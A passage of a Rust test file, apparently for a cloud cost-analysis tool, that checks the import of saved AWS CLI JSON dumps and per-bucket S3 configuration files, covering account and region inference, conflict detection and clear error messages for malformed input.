    let mut files = files_under(&fixtures().join("aws-cli"));
    let forward = read_cli_files(&files, &CliScope::default()).unwrap();
    files.reverse();
    let backward = read_cli_files(&files, &CliScope::default()).unwrap();
    for (table, df) in &forward.tables {
        assert!(df.equals_missing(&backward.tables[table]), "{table}");
    }
}

/// Copies fixture files (relative to `fixtures/ingest/aws-cli`) into a fresh
/// directory as `<dest>/<file name>`.
fn copy_into(files: &[&str], dest: &str) -> (tempfile::TempDir, Vec<PathBuf>) {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join(dest);
    fs::create_dir_all(&target).unwrap();
    let mut out = Vec::new();
    for file in files {
        let source = fixtures().join("aws-cli").join(file);
        let path = target.join(source.file_name().unwrap());
        fs::copy(&source, &path).unwrap();
        out.push(path);
    }
    (dir, out)
}

#[test]
fn account_and_region_come_from_content_when_the_path_has_none() {
    let (_dir, paths) = copy_into(
        &[
            "111111111111/us-east-1/describe-instances.json",
            "111111111111/us-east-1/describe-load-balancers.json",
            "111111111111/us-east-1/describe-snapshots.json",
            "111111111111/describe-savings-plans.json",
        ],
        "dumps",
    );
    let scope = CliScope { account_id: None, region: Some("ap-southeast-1".into()) };
    let import = read_cli_files(&paths, &scope).unwrap();
    // OwnerId + availability zone.
    assert_eq!(ids(frame(&import, Table::Instances), "account_id"), ["111111111111"; 3]);
    assert_eq!(ids(frame(&import, Table::Instances), "region"), ["us-east-1"; 3]);
    // ARNs carry both.
    let lbs = frame(&import, Table::LoadBalancers);
    assert_eq!(ids(lbs, "account_id"), ["111111111111"; 2]);
    assert_eq!(ids(lbs, "region"), ["us-east-1"; 2]);
    // Snapshots say their owner but not their region: --region fills it in.
    assert_eq!(ids(frame(&import, Table::Snapshots), "region"), ["ap-southeast-1"; 2]);
    assert_eq!(ids(frame(&import, Table::SavingsPlans), "account_id"), ["111111111111"; 2]);
    assert_eq!(import.regions.iter().collect::<Vec<_>>(), ["ap-southeast-1", "us-east-1"]);
}

#[test]
fn classic_lbs_without_account_directory_need_the_account_flag() {
    let (_dir, paths) = copy_into(&["111111111111/us-east-1/describe-load-balancers-classic.json"], "dumps");
    let err = read_cli_files(&paths, &CliScope::default()).unwrap_err();
    let message = err.to_string();
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(message.contains("describe-load-balancers-classic.json"), "{message}");
    assert!(message.contains("LoadBalancerDescriptions[0]"), "{message}");
    assert!(message.contains("--account"), "{message}");

    let scope = CliScope { account_id: Some("333333333333".into()), region: None };
    let import = read_cli_files(&paths, &scope).unwrap();
    let lbs = frame(&import, Table::LoadBalancers);
    assert_eq!(ids(lbs, "account_id"), ["333333333333"]);
    assert_eq!(ids(lbs, "region"), ["us-east-1"], "from AvailabilityZones");
}

#[test]
fn classic_output_saved_as_describe_load_balancers_is_accepted() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("111111111111/us-east-1");
    fs::create_dir_all(&target).unwrap();
    let path = target.join("describe-load-balancers.json");
    fs::copy(fixtures().join("aws-cli/111111111111/us-east-1/describe-load-balancers-classic.json"), &path).unwrap();
    let import = read_cli_files(&[path], &CliScope::default()).unwrap();
    assert_eq!(ids(frame(&import, Table::LoadBalancers), "lb_type"), ["classic"]);
    assert_eq!(import.inputs[0].format, "aws elb describe-load-balancers");
}

#[test]
fn account_wide_dumps_repeated_per_region_are_counted_once() {
    let dir = tempfile::tempdir().unwrap();
    let mut paths = Vec::new();
    for region in ["us-east-1", "eu-west-1"] {
        let target = dir.path().join("111111111111").join(region);
        fs::create_dir_all(&target).unwrap();
        for file in ["list-buckets.json", "describe-savings-plans.json"] {
            let path = target.join(file);
            fs::copy(fixtures().join("aws-cli/111111111111").join(file), &path).unwrap();
            paths.push(path);
        }
    }
    let import = read_cli_files(&paths, &CliScope::default()).unwrap();
    assert_eq!(frame(&import, Table::Buckets).height(), 2);
    assert_eq!(frame(&import, Table::SavingsPlans).height(), 2);
    assert_eq!(import.inputs.len(), 4);
}

#[test]
fn the_same_resource_with_different_values_is_an_error() {
    let dir = tempfile::tempdir().unwrap();
    let source = fs::read_to_string(fixtures().join("aws-cli/111111111111/list-buckets.json")).unwrap();
    let mut paths = Vec::new();
    for (sub, body) in [("a", source.clone()), ("b", source.replace("2021-03-04T05:06:07", "2021-03-04T05:06:08"))] {
        let target = dir.path().join(sub).join("111111111111");
        fs::create_dir_all(&target).unwrap();
        let path = target.join("list-buckets.json");
        fs::write(&path, body).unwrap();
        paths.push(path);
    }
    let message = read_cli_files(&paths, &CliScope::default()).unwrap_err().to_string();
    assert!(message.contains("acme-logs-111111111111"), "{message}");
    assert!(message.contains("different values"), "{message}");
    assert!(message.contains(&paths[0].display().to_string()), "{message}");
    assert!(message.contains(&paths[1].display().to_string()), "{message}");
}

#[test]
fn malformed_json_names_file_line_and_column() {
    let (err, message) = error_text("malformed", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(message.contains("malformed/111111111111/us-east-1/describe-volumes.json"), "{message}");
    assert!(message.contains("malformed JSON at line 8, column 13"), "{message}");
}

#[test]
fn wrong_shape_names_the_expected_key_and_command() {
    let (err, message) = error_text("wrong-shape", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(message.contains("wrong-shape/111111111111/us-east-1/describe-volumes.json"), "{message}");
    assert!(message.contains("no top-level `Volumes` key"), "{message}");
    assert!(message.contains("aws ec2 describe-volumes"), "{message}");
}

#[test]
fn missing_field_names_the_json_path() {
    let (err, message) = error_text("missing-field", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(message.contains("missing-field/111111111111/us-east-1/describe-volumes.json"), "{message}");
    assert!(message.contains("`Volumes[3].VolumeId` is required but missing"), "{message}");
}

#[test]
fn wrong_type_names_the_json_path_and_value() {
    let (_, message) = error_text("wrong-type", &CliScope::default());
    assert!(message.contains("wrong-type/111111111111/us-east-1/describe-volumes.json"), "{message}");
    assert!(message.contains("`Volumes[1].Size` should be an integer, found string \"large\""), "{message}");
}

#[test]
fn unknown_account_asks_for_the_account_flag() {
    let (err, message) = error_text("no-account", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(message.contains("no-account/describe-volumes.json"), "{message}");
    assert!(message.contains("cannot tell which account `Volumes[0]` belongs to"), "{message}");
    assert!(message.contains("--account"), "{message}");

    // With the flag the same file imports; the region comes from the zone.
    let scope = CliScope { account_id: Some("444444444444".into()), region: None };
    let import = read_cli_files(&files_under(&fixtures().join("aws-cli-bad/no-account")), &scope).unwrap();
    let df = frame(&import, Table::Volumes);
    assert_eq!(ids(df, "account_id"), ["444444444444"]);
    assert_eq!(ids(df, "region"), ["us-east-1"]);
}

#[test]
fn unknown_region_asks_for_the_region_flag() {
    let (_, message) = error_text("no-region", &CliScope::default());
    assert!(message.contains("no-region/111111111111/describe-nat-gateways.json"), "{message}");
    assert!(message.contains("cannot tell which region `NatGateways[0]` belongs to"), "{message}");
    assert!(message.contains("--region"), "{message}");

    let scope = CliScope { account_id: None, region: Some("eu-west-2".into()) };
    let import = read_cli_files(&files_under(&fixtures().join("aws-cli-bad/no-region")), &scope).unwrap();
    let df = frame(&import, Table::NatGateways);
    assert_eq!(ids(df, "account_id"), ["111111111111"], "directory still wins for the account");
    assert_eq!(ids(df, "region"), ["eu-west-2"]);
}

#[test]
fn buckets_without_bucket_region_need_the_region_flag() {
    let (_, message) = error_text("bucket-no-region", &CliScope::default());
    assert!(message.contains("bucket-no-region/111111111111/list-buckets.json"), "{message}");
    assert!(message.contains("`Buckets[0].BucketRegion` is missing"), "{message}");
    assert!(message.contains("--region"), "{message}");

    let scope = CliScope { account_id: None, region: Some("us-west-2".into()) };
    let import = read_cli_files(&files_under(&fixtures().join("aws-cli-bad/bucket-no-region")), &scope).unwrap();
    let df = frame(&import, Table::Buckets);
    assert_eq!(ids(df, "region"), ["us-west-2"]);
    assert_eq!(time(df, "creation_date", 0).as_deref(), Some("2020-01-02 03:04:05.000"));
}

#[test]
fn truncated_paginated_dumps_are_refused() {
    let (_, message) = error_text("paginated", &CliScope::default());
    assert!(message.contains("paginated/111111111111/us-east-1/describe-snapshots.json"), "{message}");
    assert!(message.contains("truncated (`NextToken` is set)"), "{message}");
}

#[test]
fn directory_and_content_must_agree_on_the_account() {
    let (_, message) = error_text("account-conflict", &CliScope::default());
    assert!(message.contains("account-conflict/111111111111/us-east-1/describe-instances.json"), "{message}");
    assert!(message.contains("`Reservations[0].Instances[0]` belongs to account 222222222222"), "{message}");
    assert!(message.contains("directory says account 111111111111"), "{message}");
}

#[test]
fn unknown_file_names_are_rejected_and_listed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("volumes.json");
    fs::write(&path, r#"{"Volumes": []}"#).unwrap();
    assert!(!is_cli_dump(&path));
    let err = read_cli_files(&[path], &CliScope::default()).unwrap_err();
    assert!(matches!(err, Error::UnknownFormat { .. }), "{err:?}");
    assert!(err.to_string().contains("describe-volumes.json"), "{err}");
}

#[test]
fn empty_dump_gives_an_empty_table() {
    let path = fixtures().join("aws-cli/222222222222/us-east-1/describe-load-balancers.json");
    let import = read_cli_files(&[path], &CliScope::default()).unwrap();
    let df = frame(&import, Table::LoadBalancers);
    assert_eq!(df.height(), 0);
    assert_eq!(df.schema().as_ref(), &Table::LoadBalancers.schema());
    assert_eq!(import.accounts.iter().collect::<Vec<_>>(), ["222222222222"]);
}

#[test]
fn every_documented_dump_is_recognized_and_in_the_docs() {
    let docs = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/import-aws-cli.md")).unwrap();
    for dump in CLI_DUMPS {
        assert!(is_cli_dump(Path::new("x/111111111111").join(dump.file_name).as_path()), "{}", dump.file_name);
        assert!(docs.contains(dump.file_name), "docs/import-aws-cli.md lacks {}", dump.file_name);
        assert!(docs.contains(dump.command), "docs/import-aws-cli.md lacks `{}`", dump.command);
    }
    assert!(docs.contains(&dumps_markdown_table()), "docs/import-aws-cli.md's file table is out of date");
    let tables: std::collections::BTreeSet<Table> = CLI_DUMPS.iter().map(|d| d.table).collect();
    assert_eq!(tables.len(), 12, "every inventory table has a dump");
}

#[test]
fn timestamps_are_utc_microseconds() {
    let import = import_good();
    let df = frame(&import, Table::Volumes);
    let row = row_of(df, "volume_id", "vol-0aaa00000000001");
    let micros = df.column("create_time").unwrap().cast(&DataType::Int64).unwrap().i64().unwrap().get(row).unwrap();
    let expected = NaiveDateTime::parse_from_str("2026-09-15 08:30:01.123", "%Y-%m-%d %H:%M:%S%.3f").unwrap();
    assert_eq!(micros, expected.and_utc().timestamp_micros());
}

// ---------------------------------------------------------------------------
// Per-bucket S3 configuration dumps (`<account>/s3-bucket-config/<bucket>/*.json`).

#[test]
fn bucket_configuration_dumps_fill_the_bucket_rows() {
    let import = import_good();
    let df = frame(&import, Table::Buckets);

    let archive = row_of(df, "bucket", "acme-eu-archive");
    let rules = text(df, "lifecycle_rules", archive).unwrap();
    assert!(
        !rules.contains('\n') && !rules.contains("TransitionDefaultMinimumObjectSize"),
        "compact Rules array: {rules}"
    );
    let parsed: serde_json::Value = serde_json::from_str(&rules).unwrap();
    assert_eq!(parsed.as_array().unwrap().len(), 3, "every rule, disabled ones too");
    assert_eq!(parsed[0]["Transitions"][0]["StorageClass"], "DEEP_ARCHIVE");
    assert_eq!(parsed[1]["AbortIncompleteMultipartUpload"]["DaysAfterInitiation"], 7);
    assert_eq!(int(df, "lifecycle_rule_count", archive), Some(2), "the tmp/ cleanup rule is Disabled");
    let current = CurrentRules::parse(&rules).unwrap();
    assert!(current.transitions_whole_bucket && current.aborts_multipart, "{current:?}");
    assert_eq!(current.expiration_days, Some(3650));
    assert_eq!(text(df, "versioning", archive).as_deref(), Some("Enabled"));
    assert_eq!(int(df, "intelligent_tiering_configs", archive), Some(1));

    let logs = row_of(df, "bucket", "acme-logs-111111111111");
    assert_eq!(text(df, "lifecycle_rules", logs).as_deref(), Some("[]"), "no rules, as opposed to not collected");
    assert_eq!(int(df, "lifecycle_rule_count", logs), Some(0));
    assert_eq!(text(df, "versioning", logs), None, "`{{}}`: never enabled");
    assert_eq!(int(df, "intelligent_tiering_configs", logs), Some(0), "no IntelligentTieringConfigurationList");
}

#[test]
fn buckets_without_configuration_dumps_keep_nulls() {
    let (_dir, paths) = copy_into(&["111111111111/list-buckets.json"], "111111111111");
    let import = read_cli_files(&paths, &CliScope::default()).unwrap();
    let df = frame(&import, Table::Buckets);
    for column in ["lifecycle_rule_count", "intelligent_tiering_configs", "versioning", "lifecycle_rules"] {
        assert_eq!(df.column(column).unwrap().null_count(), 2, "{column}: not collected");
    }
}

#[test]
fn bucket_configuration_dumps_are_recognized_only_in_their_bucket_directory() {
    for dump in BUCKET_CONFIG_DUMPS {
        for bucket in ["acme-logs", "logs.example.com", "us-east-1", "123456789012"] {
            let path = Path::new("dumps/111111111111").join(BUCKET_CONFIG_DIR).join(bucket).join(dump.file_name);
            assert!(is_cli_dump(&path), "{}", path.display());
        }
        let misplaced = Path::new("dumps/111111111111").join(dump.file_name);
        assert!(!is_cli_dump(&misplaced), "{}", misplaced.display());
        let err = read_cli_files(&[misplaced], &CliScope::default()).unwrap_err();
        assert!(matches!(err, Error::UnknownFormat { .. }), "{err:?}");
        assert!(err.to_string().contains(&format!("s3-bucket-config/<bucket>/{}", dump.file_name)), "{err}");
    }
    // Billing-like and inventory-like names in a bucket directory are not dumps.
    assert!(!is_cli_dump(Path::new("111111111111/s3-bucket-config/acme-logs/manifest.json")));
    assert!(!is_cli_dump(Path::new("111111111111/s3-bucket-config/acme-logs/get-bucket-tagging.json")));
}

#[test]
fn bucket_configuration_dumps_are_planned_as_cli_dumps() {
    let plan = costwise_analyzer::ingest::plan(&[fixtures().join("aws-cli")]).unwrap();
    let configs: Vec<String> = plan
        .cli_dumps
        .iter()
        .map(|p| relative(&p.display().to_string()))
        .filter(|p| p.contains(BUCKET_CONFIG_DIR))
        .collect();
    assert_eq!(configs.len(), 6, "{configs:?}");
    assert!(plan.billing.is_empty() && plan.ignored.is_empty() && plan.s3_inventories.is_empty(), "{plan:?}");
}

/// Writes `list-buckets.json` (the fixture's: acme-logs-111111111111 and
/// acme-eu-archive) and `files` (relative path, content) under `<tmp>/111111111111/`.
fn bucket_config_case(files: &[(&str, &str)]) -> (tempfile::TempDir, Vec<PathBuf>) {
    let dir = tempfile::tempdir().unwrap();
    let account = dir.path().join("111111111111");
    fs::create_dir_all(&account).unwrap();
    fs::copy(fixtures().join("aws-cli/111111111111/list-buckets.json"), account.join("list-buckets.json")).unwrap();
    for (path, content) in files {
        let path = account.join(path);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, content).unwrap();
    }
    let paths = files_under(dir.path());
    (dir, paths)
}

const LOGS_CONFIG: &str = "s3-bucket-config/acme-logs-111111111111";

fn bucket_config_error(file: &str, content: &str) -> String {
    let (_dir, paths) = bucket_config_case(&[(&format!("{LOGS_CONFIG}/{file}"), content)]);
    let err = read_cli_files(&paths, &CliScope::default()).unwrap_err();
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    let message = err.to_string();
    assert!(message.contains(&format!("{LOGS_CONFIG}/{file}")), "names the file: {message}");
    message
}

fn logs_bucket_after(file: &str, content: &str) -> (Option<String>, Option<i64>, Option<String>, Option<i64>) {
    let (_dir, paths) = bucket_config_case(&[(&format!("{LOGS_CONFIG}/{file}"), content)]);
    let import = read_cli_files(&paths, &CliScope::default()).unwrap();
    let df = frame(&import, Table::Buckets);
    let row = row_of(df, "bucket", "acme-logs-111111111111");
    (
        text(df, "lifecycle_rules", row),
        int(df, "lifecycle_rule_count", row),
        text(df, "versioning", row),
        int(df, "intelligent_tiering_configs", row),
    )
}

#[test]
fn malformed_bucket_configuration_names_file_line_and_column() {
    let (err, message) = error_text("bucket-config-malformed", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(
        message.contains(
            "bucket-config-malformed/111111111111/s3-bucket-config/acme-logs-111111111111/get-bucket-lifecycle-configuration.json"
        ),
        "{message}"
    );
    assert!(message.contains("malformed JSON at line 6, column 13"), "{message}");
}

#[test]
fn a_configuration_dump_for_a_bucket_not_in_list_buckets_is_an_error() {
    let (err, message) = error_text("bucket-config-orphan", &CliScope::default());
    assert!(matches!(err, Error::BadJson { .. }), "{err:?}");
    assert!(
        message
            .contains("bucket-config-orphan/111111111111/s3-bucket-config/acme-old-bucket/get-bucket-versioning.json"),
        "{message}"
    );
    assert!(
        message.contains("bucket `acme-old-bucket` of account 111111111111 is in no list-buckets.json"),
        "{message}"
    );

    // Without any list-buckets.json, every configuration dump is an orphan.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("111111111111").join(LOGS_CONFIG).join("get-bucket-versioning.json");
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(&path, "{}").unwrap();
    let message = read_cli_files(&[path], &CliScope::default()).unwrap_err().to_string();
    assert!(
        message.contains("bucket `acme-logs-111111111111` of account 111111111111 is in no list-buckets.json"),
        "{message}"
    );
}

#[test]
fn wrong_shapes_and_types_name_the_field() {
    let message = bucket_config_error("get-bucket-lifecycle-configuration.json", r#"{"Status": "Enabled"}"#);
    assert!(message.contains("no top-level `Rules` key"), "{message}");
    assert!(message.contains("aws s3api get-bucket-lifecycle-configuration"), "{message}");

    let message = bucket_config_error("get-bucket-lifecycle-configuration.json", r#"{"Rules": [{"ID": "x"}]}"#);
    assert!(message.contains("`Rules[0].Status` is required but missing"), "{message}");

    let message = bucket_config_error("get-bucket-lifecycle-configuration.json", r#"{"Rules": [{"Status": "On"}]}"#);
    assert!(message.contains("`Rules[0].Status` should be `Enabled` or `Disabled`, found \"On\""), "{message}");

    let message = bucket_config_error("get-bucket-lifecycle-configuration.json", r#"{"Rules": "none"}"#);
    assert!(message.contains("`Rules` should be an array, found string \"none\""), "{message}");

    let message = bucket_config_error("get-bucket-versioning.json", r#"{"Rules": []}"#);
    assert!(message.contains("no top-level `Status` key"), "{message}");

    let message = bucket_config_error("get-bucket-versioning.json", r#"{"Status": true}"#);
    assert!(message.contains("`Status` should be a string, found boolean true"), "{message}");

    let message = bucket_config_error("get-bucket-versioning.json", "[]");
    assert!(message.contains("expected a JSON object"), "{message}");

    let message = bucket_config_error(
        "list-bucket-intelligent-tiering-configurations.json",
        r#"{"IntelligentTieringConfigurationList": [{"Id": "a", "Status": 1}]}"#,
    );
    assert!(
        message.contains("`IntelligentTieringConfigurationList[0].Status` should be a string, found number 1"),
        "{message}"
    );

    let message =
        bucket_config_error("list-bucket-intelligent-tiering-configurations.json", r#"{"Status": "Enabled"}"#);
    assert!(message.contains("no top-level `IntelligentTieringConfigurationList` key"), "{message}");

    let message = bucket_config_error(
        "list-bucket-intelligent-tiering-configurations.json",
        r#"{"IsTruncated": true, "NextContinuationToken": "abc", "IntelligentTieringConfigurationList": []}"#,
    );
    assert!(message.contains("truncated (`IsTruncated` is true)"), "{message}");
}

#[test]
fn no_lifecycle_configuration_is_written_as_empty_rules_or_the_cli_error() {
    let none = (Some("[]".to_owned()), Some(0), None, None);
    assert_eq!(logs_bucket_after("get-bucket-lifecycle-configuration.json", r#"{"Rules": []}"#), none);
    // The error the AWS CLI prints, saved with 2>&1.
    let cli_error = "\nAn error occurred (NoSuchLifecycleConfiguration) when calling the \
                     GetBucketLifecycleConfiguration operation: The lifecycle configuration does not exist\n";
    assert_eq!(logs_bucket_after("get-bucket-lifecycle-configuration.json", cli_error), none);

    // Any other error is not "no rules".
    let message = bucket_config_error(
        "get-bucket-lifecycle-configuration.json",
        "An error occurred (AccessDenied) when calling the GetBucketLifecycleConfiguration operation: Access Denied",
    );
    assert!(message.contains("holds an AWS CLI error instead of the command's JSON output"), "{message}");
    assert!(message.contains("(AccessDenied)"), "{message}");

    // An empty file is what a failed command leaves behind: not "no rules".
    let message = bucket_config_error("get-bucket-lifecycle-configuration.json", "\n");
    assert!(message.contains("the file is empty"), "{message}");
    assert!(message.contains(r#"{"Rules": []}"#), "{message}");
    let message = bucket_config_error("list-bucket-intelligent-tiering-configurations.json", "");
    assert!(message.contains("the file is empty"), "{message}");
}

#[test]
fn versioning_and_intelligent_tiering_states() {
    // The AWS CLI prints nothing for a bucket whose versioning was never enabled.
    assert_eq!(logs_bucket_after("get-bucket-versioning.json", ""), (None, None, None, None));
    assert_eq!(
        logs_bucket_after("get-bucket-versioning.json", r#"{"Status": "Suspended"}"#).2.as_deref(),
        Some("Suspended")
    );
    assert_eq!(
        logs_bucket_after("get-bucket-versioning.json", r#"{"MFADelete": "Disabled"}"#).2,
        None,
        "MFADelete alone: never enabled"
    );
    let two = r#"{"IsTruncated": false, "IntelligentTieringConfigurationList": [
        {"Id": "a", "Status": "Enabled", "Tierings": [{"Days": 90, "AccessTier": "ARCHIVE_ACCESS"}]},
        {"Id": "b", "Status": "Disabled", "Tierings": [{"Days": 180, "AccessTier": "DEEP_ARCHIVE_ACCESS"}]}]}"#;
    assert_eq!(
        logs_bucket_after("list-bucket-intelligent-tiering-configurations.json", two).3,
        Some(1),
        "enabled configurations only"
    );
    assert_eq!(logs_bucket_after("list-bucket-intelligent-tiering-configurations.json", "{}").3, Some(0));
}

#[test]
fn bucket_directories_named_like_accounts_or_regions_do_not_scope_the_dump() {
    // A bucket named like a region, under a region directory: the account comes from above s3-bucket-config.
    let dir = tempfile::tempdir().unwrap();
    let account = dir.path().join("111111111111");
    fs::create_dir_all(&account).unwrap();
    fs::write(
        account.join("list-buckets.json"),
        r#"{"Buckets": [{"Name": "222222222222", "BucketRegion": "us-east-1"}, {"Name": "eu-west-1", "BucketRegion": "eu-west-1"}]}"#,
    )
    .unwrap();
    for bucket in ["222222222222", "eu-west-1"] {
        let path = account.join("us-east-1").join(BUCKET_CONFIG_DIR).join(bucket).join("get-bucket-versioning.json");
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, r#"{"Status": "Enabled"}"#).unwrap();
    }
    let import = read_cli_files(&files_under(dir.path()), &CliScope::default()).unwrap();
    let df = frame(&import, Table::Buckets);
    assert_eq!(ids(df, "versioning"), ["Enabled", "Enabled"]);
    assert_eq!(import.accounts.iter().collect::<Vec<_>>(), ["111111111111"]);
}

#[test]
fn the_same_bucket_configuration_twice_must_agree() {
    let rules = r#"{"Rules": [{"ID": "a", "Status": "Enabled", "Filter": {}, "Expiration": {"Days": 30}}]}"#;
    let (_dir, paths) = bucket_config_case(&[
        (&format!("us-east-1/{LOGS_CONFIG}/get-bucket-lifecycle-configuration.json"), rules),
        (&format!("eu-west-1/{LOGS_CONFIG}/get-bucket-lifecycle-configuration.json"), rules),
    ]);
    let import = read_cli_files(&paths, &CliScope::default()).unwrap();
    let df = frame(&import, Table::Buckets);
    assert_eq!(int(df, "lifecycle_rule_count", row_of(df, "bucket", "acme-logs-111111111111")), Some(1));

    let (_dir, paths) = bucket_config_case(&[
        (&format!("us-east-1/{LOGS_CONFIG}/get-bucket-lifecycle-configuration.json"), rules),
        (&format!("eu-west-1/{LOGS_CONFIG}/get-bucket-lifecycle-configuration.json"), r#"{"Rules": []}"#),
    ]);
    let message = read_cli_files(&paths, &CliScope::default()).unwrap_err().to_string();
    assert!(message.contains("lifecycle configuration of bucket `acme-logs-111111111111`"), "{message}");
    assert!(message.contains("different values"), "{message}");
}

#[test]
fn every_bucket_configuration_dump_is_in_the_docs() {
    let docs = fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/import-aws-cli.md")).unwrap();
    assert!(
        docs.contains(&bucket_config_markdown_table()),
        "docs/import-aws-cli.md's bucket configuration table is out of date"
    );
    // The documented loop turns NoSuchLifecycleConfiguration into "no rules".
    assert!(docs.contains("aws s3api list-buckets --query 'Buckets[].Name' --output text"));
    assert!(docs.contains("NoSuchLifecycleConfiguration") && docs.contains(r#"echo '{"Rules": []}'"#));
    for dump in BUCKET_CONFIG_DUMPS {
        assert!(docs.contains(&format!("$d/{}", dump.file_name)), "the loop writes {}", dump.file_name);
    }
}

/// End to end: with its per-bucket dumps, a CLI-imported bucket no longer
/// leaves `s3-lifecycle-tiering` without its lifecycle rules. An S3 Inventory
/// report of the bucket (one 1 GiB Standard object) gets it past "no storage
/// metrics"; CloudWatch and the CUR are still missing, so request data is what
/// it lacks then.
#[test]
fn imported_lifecycle_rules_reach_the_storage_rules() {
    let inventory = tempfile::tempdir().unwrap();
    let report = inventory.path().join("inventory/acme-logs-111111111111/daily");
    fs::create_dir_all(report.join("data")).unwrap();
    let data = "\"acme-logs-111111111111\",\"alb/2026/01/01/a.log.gz\",\"1073741824\",\"2026-01-01T00:00:00.000Z\",\"STANDARD\"\n";
    fs::write(report.join("data/part.csv"), data).unwrap();
    let manifest = serde_json::json!({
        "sourceBucket": "acme-logs-111111111111",
        "destinationBucket": "arn:aws:s3:::acme-inventory",
        "version": "2016-11-30",
        "creationTimestamp": "1793322000000",
        "fileFormat": "CSV",
        "fileSchema": "Bucket, Key, Size, LastModifiedDate, StorageClass",
        "files": [{"key": "inventory/acme-logs-111111111111/daily/data/part.csv", "size": data.len(), "MD5checksum": "0"}],
    });
    fs::write(report.join("manifest.json"), manifest.to_string()).unwrap();

    let reason_for_logs = |cli: PathBuf| -> String {
        let dir = tempfile::tempdir().unwrap();
        let out = dir.path().join("snap");
        let options = ImportOptions {
            scope: CliScope::default(),
            created_at: DateTime::from_timestamp(1_793_400_000, 0).unwrap().naive_utc(),
            description: None,
            kind: costwise_analyzer::manifest::SourceKind::Import,
            gaps: Vec::new(),
            origins: Vec::new(),
        };
        import(&[inventory.path().to_path_buf(), cli], &out, &options).unwrap();
        let analysis = analyze(&Dataset::open(&out).unwrap(), &Config::default()).unwrap();
        assert!(analysis.errors.is_empty(), "{:?}", analysis.errors);
        let skipped: Vec<_> = analysis
            .not_enough_data
            .iter()
            .filter(|s| s.rule == "s3-lifecycle-tiering" && s.skipped.resource_id == "acme-logs-111111111111")
            .collect();
        assert_eq!(skipped.len(), 1, "{:?}", analysis.not_enough_data);
        skipped[0].skipped.reason.clone()
    };

    // Only list-buckets.json: the rules are unknown.
    let (_dir, paths) = copy_into(&["111111111111/list-buckets.json"], "111111111111");
    let without = reason_for_logs(paths[0].parent().unwrap().to_path_buf());
    assert!(without.contains("lifecycle rules were not collected"), "{without}");

    // With the per-bucket dumps (`{"Rules": []}`): known to have none; what is missing now is request data.
    let with = reason_for_logs(fixtures().join("aws-cli"));
    assert!(!with.contains("lifecycle"), "{with}");
    assert!(with.starts_with("no request data"), "{with}");
}
